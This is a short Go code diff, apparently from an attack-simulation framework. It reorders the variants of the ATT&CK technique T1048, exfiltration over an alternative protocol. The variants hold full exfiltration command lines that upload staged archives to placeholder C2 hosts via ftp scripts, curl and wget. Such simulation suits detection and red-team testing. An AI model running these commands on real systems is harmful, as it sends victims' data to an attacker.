@@ -32,8 +32,8 @@ var exfiltration = []*Technique{
 	{
 		ID: "T1048", Name: "Exfiltration Over Alternative Protocol", Tactic: "exfiltration", Achieves: "exfiltrate", Needs: "collected data", Effect: "the data is gone", Takes: sim.LogNormal(4*time.Minute, 0.7), Success: 0.96,
 		ready: needStaged, script: &script{at: anywhere, then: gone, variants: []variant{
-			by("ftp", either(cmd(world.Cmd, `cmd.exe /c echo open {c2ip}>f & echo put C:\Users\Public\o.zip>>f & ftp -s:f`), sh(world.Curl, "curl -T /tmp/.o ftp://{c2}/ --user u:p")), connect("", 443, "ftp", 200e6, 90e3)),
 			by("tor gateway", query("kl3f7vq2xsd6sadf.onion.link", "198.51.100.9"), connect("kl3f7vq2xsd6sadf.onion.link", 443, "ssl", 200e6, 90e3)),
+			by("ftp", either(cmd(world.Cmd, `cmd.exe /c echo open {c2ip}>f & echo put C:\Users\Public\o.zip>>f & ftp -s:f`), sh(world.Curl, "curl -T /tmp/.o ftp://{c2}/ --user u:p")), connect("", 443, "ftp", 200e6, 90e3)),
 			by("curl upload", either(cmd(world.Curlexe, `curl.exe -k -F "file=@C:\Users\Public\o.zip" https://{c2}/u`), sh(world.Wget, "wget --post-file=/tmp/.o https://{c2}/u")), connect("", 443, "ssl", 200e6, 90e3)),
 		}},
 	},
